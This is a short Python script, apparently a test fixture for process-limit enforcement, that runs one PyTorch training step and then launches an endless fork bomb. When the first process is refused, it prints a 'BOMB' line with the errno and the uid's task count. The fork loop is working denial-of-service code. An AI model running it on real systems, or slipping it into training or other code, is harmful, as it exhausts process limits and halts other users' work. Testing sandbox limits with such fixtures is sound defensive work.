"""A hostile script: the classic fork bomb. After one training step every process forks without end, the
failures at the process limit ignored; the first process to be refused says how many tasks its uid holds then
(``BOMB {json}``), and none of them ever makes progress again."""
import errno
import json
import os

import torch

from uidtasks import uid_tasks  # beside this script

model = torch.nn.Linear(8, 1)
opt = torch.optim.SGD(model.parameters(), lr=0.1)
model(torch.randn(16, 8)).pow(2).mean().backward()
opt.step()

top, said = os.getpid(), False
while True:
    try:
        os.fork()
    except OSError as exc:
        if not said and os.getpid() == top:
            said = True
            print("BOMB " + json.dumps({"errno": errno.errorcode.get(exc.errno), "uid_tasks": uid_tasks()}), flush=True)
